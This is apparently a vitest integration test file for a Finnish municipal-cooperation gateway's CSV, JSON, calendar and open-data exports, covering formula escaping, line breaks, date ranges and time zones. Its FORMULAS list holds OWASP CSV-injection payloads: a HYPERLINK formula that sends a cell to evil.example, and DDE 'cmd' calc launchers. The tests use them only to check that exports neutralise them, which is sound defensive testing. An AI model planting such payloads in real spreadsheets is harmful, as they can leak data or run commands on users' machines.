import { createRequire } from "node:module";
import { parse as parseCsv } from "csv-parse/sync";
import ICAL from "ical.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mintUserToken } from "@yhdyspinta/core";
import { columnsFor, VIEW_EXPORTS } from "../gateway/src/exports/columns.ts";
import { bearer, serviceSql, startTestStack, type TestStack } from "./support.ts";
import { unzip } from "./unzip.ts";

// Issue 24, items 3, 4, 6, 7, 9 and 11 (DTSTAMP, the datapackage's datetime
// format), through the gateway: what a spreadsheet, a CSV reader, a calendar
// application and a Frictionless validator make of the exports, dates at the
// edges of the supported range, and times in error messages.

// The JavaScript Frictionless validator's Table Schema casting (the datapackage library's own dependency).
const datapackageRequire = createRequire(createRequire(import.meta.url).resolve("datapackage"));
const { Field } = datapackageRequire("tableschema") as {
  Field: new (descriptor: Record<string, unknown>) => { castValue(value: string): unknown };
};

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Data = any;
interface Result {
  data?: Data;
  errors?: { message: string; extensions?: Record<string, unknown> }[];
}

let stack: TestStack;
let admin: Record<string, string>;
let coordinator: Record<string, string>;

/** The OWASP "CSV injection" payloads a coordinator can type into a name. */
const FORMULAS = [
  `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];
/** Leading TAB and CR: refused in names now; written by earlier versions, so put straight into the database. */
const STORED_FORMULAS = ["\t=1+1", "\r=1+1"];
/** Values every CSV reader must read back as one cell. */
const BREAKING = ["Rivi\nkatkeaa", "Vaunu\rpaluu", "Rivin\r\nvaihto", 'Lainaus "x", pilkku; puolipiste', "Tavallinen"];

const CREATE_GROUP = `mutation($input: CreateCooperationGroupInput!) { createCooperationGroup(input: $input) { id } }`;
const SCHEDULE = `mutation($input: ScheduleMeetingInput!) { scheduleMeeting(input: $input) { id startsAt } }`;

async function q(query: string, variables: Record<string, unknown> = {}, headers: Record<string, string> = admin): Promise<Result> {
  return (await stack.query<Data>(query, variables, headers)) as Result;
}

async function ok(query: string, variables: Record<string, unknown> = {}, headers: Record<string, string> = admin): Promise<Data> {
  const res = await q(query, variables, headers);
  expect(res.errors, JSON.stringify(res.errors)).toBeUndefined();
  return res.data;
}

function expectBadInput(res: Result, field: string, rule: string | RegExp): void {
  expect(res.errors?.[0]?.extensions?.["code"], JSON.stringify(res)).toBe("BAD_USER_INPUT");
  expect(res.errors![0]!.extensions!["field"]).toBe(field);
  if (typeof rule === "string") expect(res.errors![0]!.message).toContain(rule);
  else expect(res.errors![0]!.message).toMatch(rule);
}

async function get(path: string, headers: Record<string, string> = {}) {
  const res = await fetch(new URL(path, stack.gatewayUrl), { headers });
  return { status: res.status, body: Buffer.from(await res.arrayBuffer()), received: new Date() };
}

/** A name no other test run holds (group names are unique in their county). */
let serial = 0;
const unique = (name: string) => `${name} ${++serial}-${Math.random().toString(36).slice(2, 7)}`;

async function createGroup(name: string, municipality = "167"): Promise<string> {
  const input = { countyCode: "14", name, kind: "PARTNERSHIP_GROUP", startsOn: "2024-01-01", municipalityCodes: [municipality] };
  return (await ok(CREATE_GROUP, { input }, coordinator)).createCooperationGroup.id;
}

beforeAll(async () => {
  stack = await startTestStack("exports_edges");
  admin = bearer(await mintUserToken(stack.authSecret, { sub: "edges-admin", scope: "data:write contacts:read", role: "admin" }));
  coordinator = bearer(await mintUserToken(stack.authSecret, { sub: "edges-coord-14", scope: "data:write", role: "coordinator", counties: ["14"] }));
});

afterAll(async () => {
  await stack?.stop();
});

/** The anonymous export of view 1 for one municipality: CSV (plain or Excel) and JSON. */
async function partnershipExport(municipality: string, excel: boolean) {
  // View 1 lists every municipality of the county; one municipality of it is enough.
  const query = `countyCodes=14${excel ? "&excel=true" : ""}`;
  const csv = await get(`exports/partnership-groups-by-municipality.csv?${query}`);
  expect(csv.status, csv.body.toString()).toBe(200);
  const json = await get(`exports/partnership-groups-by-municipality.json?countyCodes=14`);
  expect(json.status).toBe(200);
  const rows = parseCsv(csv.body, { columns: true, delimiter: excel ? ";" : ",", bom: excel, relax_quotes: false }) as Record<string, string>[];
  const objects = (JSON.parse(json.body.toString("utf8")) as Record<string, unknown>[]).filter((r) => r["municipality_code"] === municipality);
  return { rows: rows.filter((r) => r["municipality_code"] === municipality), allRows: rows, json: objects, allJson: JSON.parse(json.body.toString("utf8")) as Record<string, unknown>[] };
}

/** What the CSV cell of a JSON value must read: text neutralised against formulas, typed values as they are. */
function expectedCell(value: unknown, type: string): string {
  if (value === null || value === undefined) return "";
  if (type === "string" && typeof value === "string" && /^[=+\-@\t\r]/.test(value)) return `'${value}`;
  return String(value);
}

describe("CSV formula injection (item 3)", () => {
  it("writes every cell that starts with = + - @ TAB or CR as text (a leading apostrophe), plain and excel=true; JSON keeps the value", async () => {
    const groups = new Map<string, string>();
    for (const formula of FORMULAS) groups.set(await createGroup(formula, "167"), formula);
    for (const formula of STORED_FORMULAS) {
      const id = await createGroup(unique("Tallennettu"), "167");
      await serviceSql(stack, "groups", `update cooperation_group set name = $2 where id = $1`, [id, formula]);
      groups.set(id, formula);
    }
    // Organisation names: a coordinator's organisation, a person of it, a membership in one of the groups.
    const organisation = (
      await ok(`mutation($input: CreateOrganisationInput!) { createOrganisation(input: $input) { id } }`, {
        input: { name: FORMULAS[0], kind: "ASSOCIATION", countyCode: "14" },
      }, coordinator)
    ).createOrganisation.id;
    const person = (await ok(`mutation($input: CreatePersonInput!) { createPerson(input: $input) { id } }`, { input: { name: FORMULAS[2], organisationId: organisation } }))
      .createPerson.id;
    const [groupId] = [...groups.keys()];
    await ok(`mutation($input: RecordMembershipInput!) { recordMembership(input: $input) { id } }`, {
      input: { groupId, personId: person, organisationId: organisation, role: "MEMBER", startsOn: "2024-02-01" },
    });

    for (const excel of [false, true]) {
      const { rows, json } = await partnershipExport("167", excel);
      for (const [id, formula] of groups) {
        const row = rows.find((r) => r["group_id"] === id);
        expect(row?.["group_name"], `${excel} ${id}`).toBe(`'${formula}`);
        expect(json.find((r) => r["group_id"] === id)?.["group_name"]).toBe(formula);
      }
      const member = rows.find((r) => r["person_id"] === person)!;
      expect(member["organisation_name"]).toBe(`'${FORMULAS[0]}`);
      expect(member["person_name"]).toBe(`'${FORMULAS[2]}`);
      // No cell of the export starts a formula.
      for (const row of rows) for (const cell of Object.values(row)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("refuses TAB, CR and LF in a name at the input, naming the field", async () => {
    for (const name of ["\t=1+1", "\r=1+1", "Rivi\nkatkeaa"]) {
      const input = { countyCode: "14", name, kind: "PARTNERSHIP_GROUP", startsOn: "2024-01-01", municipalityCodes: ["167"] };
      expectBadInput(await q(CREATE_GROUP, { input }, coordinator), "input.name", "one line of text");
    }
    expectBadInput(
      await q(`mutation { createOrganisation(input: { name: "Kello\\u0007ry", kind: ASSOCIATION, countyCode: "14" }) { id } }`, {}, coordinator),
      "input.name",
      "control characters",
    );
    // Multi-line text keeps its line breaks; a bell is refused there too.
    const groupId = await createGroup(unique("Monirivinen"));
    const agenda = ["Avaus\n\tlisätieto", "Muut asiat"];
    const meeting = await ok(`mutation($input: ScheduleMeetingInput!) { scheduleMeeting(input: $input) { agenda } }`, {
      input: { groupId, kind: "REGULAR", startsAt: "2026-05-05T10:00:00+03:00", agenda },
    }, coordinator);
    expect(meeting.scheduleMeeting.agenda).toEqual(agenda);
    expectBadInput(await q(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt: "2026-05-06T10:00:00+03:00", agenda: ["a\u0007"] } }, coordinator), "input.agenda[0]", "control characters");
  });
});

describe("CSV rows that break (item 4)", () => {
  it("reads back, with a real CSV parser, exactly the JSON export: a line feed, a carriage return, CRLF, quotes and separators stay in their cell", async () => {
    const ids = new Map<string, string>();
    for (const value of BREAKING) {
      const id = await createGroup(unique("Katkeava"), "176");
      // Line breaks are refused in names now (above); earlier versions stored them.
      await serviceSql(stack, "groups", `update cooperation_group set name = $2 where id = $1`, [id, value]);
      ids.set(id, value);
    }
    const columns = columnsFor(VIEW_EXPORTS["partnership-groups-by-municipality"], false);
    for (const excel of [false, true]) {
      const { allRows, allJson } = await partnershipExport("176", excel);
      expect(allRows).toHaveLength(allJson.length);
      allJson.forEach((object, i) => {
        const expected = Object.fromEntries(columns.map((c) => [c.name, expectedCell(object[c.name], c.type)]));
        expect(allRows[i], `row ${i} excel=${excel}`).toEqual(expected);
      });
      for (const [id, value] of ids) expect(allRows.find((r) => r["group_id"] === id)?.["group_name"]).toBe(value);
    }
  });
});

describe("dates at the edges of the supported range (item 6)", () => {
  it("answers every supported day in the meetings field and the meeting-calendar export; refuses days outside it naming the range", async () => {
    const groupId = await createGroup(unique("Reunapäivät"));
    const late = (await ok(SCHEDULE, { input: { groupId, kind: "REGULAR", title: "Viimeinen", startsAt: "9999-12-31T23:30:00+02:00" } }, coordinator)).scheduleMeeting;
    expect(late.startsAt).toBe("9999-12-31T23:30:00+02:00");
    const early = (await ok(SCHEDULE, { input: { groupId, kind: "REGULAR", title: "Ensimmäinen", startsAt: "1000-01-01T12:00:00+02:00" } }, coordinator)).scheduleMeeting;

    const meetings = `query($from: Date, $to: Date) { meetings(countyCode: "14", from: $from, to: $to) { id } }`;
    const all = (await ok(meetings, { from: "1000-01-01", to: "9999-12-31" })).meetings.map((m: Data) => m.id);
    expect(all).toEqual(expect.arrayContaining([late.id, early.id]));
    expect((await ok(meetings, { to: "9999-12-31" })).meetings.map((m: Data) => m.id)).toContain(late.id);
    expect((await ok(`{ meetings(countyCode: "14", to: "9999-12-31") { id } }`)).meetings.map((m: Data) => m.id)).toContain(late.id);
    expect((await ok(meetings, { from: "9999-12-31" })).meetings.map((m: Data) => m.id)).toEqual([late.id]);
    expect((await ok(meetings, { to: "1000-01-01" })).meetings.map((m: Data) => m.id)).toEqual([early.id]);

    for (const day of ["0001-01-01", "0999-12-31"]) {
      const res = await q(meetings, { from: day });
      expect(res.errors?.[0]?.extensions?.["code"], JSON.stringify(res)).toBe("BAD_USER_INPUT");
      expect(res.errors![0]!.extensions!["field"]).toBe("from");
      expect(res.errors![0]!.message).toContain("supported range 1000-01-01 … 9999-12-31");
    }
    const refusedInstant = await q(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt: "9999-12-31T23:30:00Z" } }, coordinator);
    expectBadInput(refusedInstant, "input.startsAt", "supported range");

    const csv = await get(`exports/meeting-calendar.csv?countyCode=14&from=1000-01-01&to=9999-12-31`);
    expect(csv.status, csv.body.toString()).toBe(200);
    const rows = parseCsv(csv.body, { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r["meeting_id"] === late.id)?.["starts_at"]).toBe("9999-12-31T23:30:00+02:00");
    expect(rows.find((r) => r["meeting_id"] === early.id)).toBeDefined();
    const refused = await get(`exports/meeting-calendar.csv?countyCode=14&from=0001-01-01&to=9999-12-31`);
    expect(refused.status).toBe(400);
    expect(JSON.parse(refused.body.toString())).toMatchObject({ parameter: "from", error: expect.stringContaining("supported range 1000-01-01 … 9999-12-31") });
  });
});

describe("the audit trail's Instant (item 7)", () => {
  it("refuses a moment that does not exist as BAD_USER_INPUT naming the field, as a variable and as a literal", async () => {
    const query = `query($since: Instant) { organisation(id: "org-municipality-167") { changes(since: $since) { totalCount } } }`;
    expect((await ok(query, { since: "2026-02-28T10:00:00Z" })).organisation.changes.totalCount).toBeGreaterThanOrEqual(0);
    for (const since of ["2026-02-30T10:00:00Z", "2026-02-30", "2026-03-01T24:00:00+02:00"]) {
      const res = await q(query, { since });
      expect(res.errors?.[0]?.extensions?.["code"], `${since} ${JSON.stringify(res)}`).toBe("BAD_USER_INPUT");
      expect(res.errors![0]!.extensions!["field"]).toBe("since");
      expect(res.errors![0]!.message).toContain("does not exist");
    }
    // A literal is refused while the subgraph validates the document, as every scalar's literal is (a Date's too).
    const literal = await q(`{ organisation(id: "org-municipality-167") { changes(since: "2026-02-30T10:00:00Z") { totalCount } } }`);
    const dateLiteral = await q(`{ meetings(countyCode: "14", to: "2026-02-30") { id } }`);
    expect(literal.data?.organisation ?? null).toBeNull();
    expect(literal.errors?.[0]?.message, JSON.stringify(literal)).toContain("Instant 2026-02-30T10:00:00Z does not exist");
    expect(literal.errors![0]!.extensions!["code"]).toBe(dateLiteral.errors?.[0]?.extensions?.["code"]);
  });
});

describe("times in error messages (item 9)", () => {
  it("names the existing meeting's time in Helsinki with its offset, not in UTC", async () => {
    const groupId = await createGroup(unique("Kellonajat"));
    for (const [startsAt, shown] of [
      ["2027-03-26T08:00:00Z", "2027-03-26T10:00:00+02:00"],
      ["2027-07-01T07:00:00Z", "2027-07-01T10:00:00+03:00"],
    ] as const) {
      await ok(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt } }, coordinator);
      const again = await q(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt: shown } }, coordinator);
      expectBadInput(again, "input.startsAt", `at ${shown})`);
      expect(again.errors![0]!.message).not.toMatch(/\d{2}:\d{2}:\d{2}(\.\d+)?Z/);
    }
  });
});

describe("calendar feeds and the open-data package (item 11)", () => {
  it("stamps every event with a time that has passed (the feed's making), never a future meeting's start", async () => {
    const groupId = await createGroup(unique("Tulevat"));
    await ok(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt: "2031-05-05T10:00:00+03:00" } }, coordinator);
    for (const path of ["calendar/county/14.ics", `calendar/group/${groupId}.ics`]) {
      const res = await get(path);
      expect(res.status).toBe(200);
      const calendar = new ICAL.Component(ICAL.parse(res.body.toString("utf8")));
      const stamps = calendar.getAllSubcomponents("vevent").map((v) => v.getFirstPropertyValue("dtstamp") as ICAL.Time);
      expect(stamps.length).toBeGreaterThan(0);
      for (const stamp of stamps) expect(stamp.toJSDate().getTime()).toBeLessThanOrEqual(res.received.getTime());
    }
  });

  it("declares the meeting calendar's datetime format so that the JavaScript validator casts every cell of every table", { timeout: 180_000 }, async () => {
    const groupId = await createGroup(unique("Aikavyöhykkeet"));
    await ok(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt: "2026-01-15T10:00:00+02:00", endsAt: "2026-01-15T12:00:00+02:00" } }, coordinator);
    await ok(SCHEDULE, { input: { groupId, kind: "REGULAR", startsAt: "2026-07-15T10:00:00+03:00" } }, coordinator);
    const res = await get("exports/open-data.zip");
    expect(res.status).toBe(200);
    const files = new Map((await unzip(res.body)).map((e) => [e.name, e.content]));
    const descriptor = JSON.parse(files.get("datapackage.json")!.toString("utf8"));
    const calendarResource = descriptor.resources.find((r: Data) => r.name === "meeting-calendar");
    const startsAt = calendarResource.schema.fields.find((f: Data) => f.name === "starts_at");
    expect(startsAt).toMatchObject({ type: "datetime", format: "%Y-%m-%dT%H:%M:%S%z" });

    let datetimeCells = 0;
    const offsets = new Set<string>();
    const failures: string[] = [];
    for (const resource of descriptor.resources) {
      const fields = (resource.schema.fields as Data[]).map((f) => [f.name, new Field(f)] as const);
      const rows = parseCsv(files.get(resource.path)!, { columns: true }) as Record<string, string>[];
      for (const row of rows) {
        for (const [name, field] of fields) {
          const cell = row[name]!;
          try {
            field.castValue(cell);
          } catch {
            failures.push(`${resource.name}.${name}: ${JSON.stringify(cell)}`);
          }
          if (resource.name === "meeting-calendar" && name === "starts_at") {
            datetimeCells++;
            offsets.add(cell.slice(-6));
          }
        }
      }
    }
    expect(failures.slice(0, 10)).toEqual([]);
    expect(datetimeCells).toBeGreaterThan(1);
    expect([...offsets]).toEqual(expect.arrayContaining(["+02:00", "+03:00"]));
  });
});
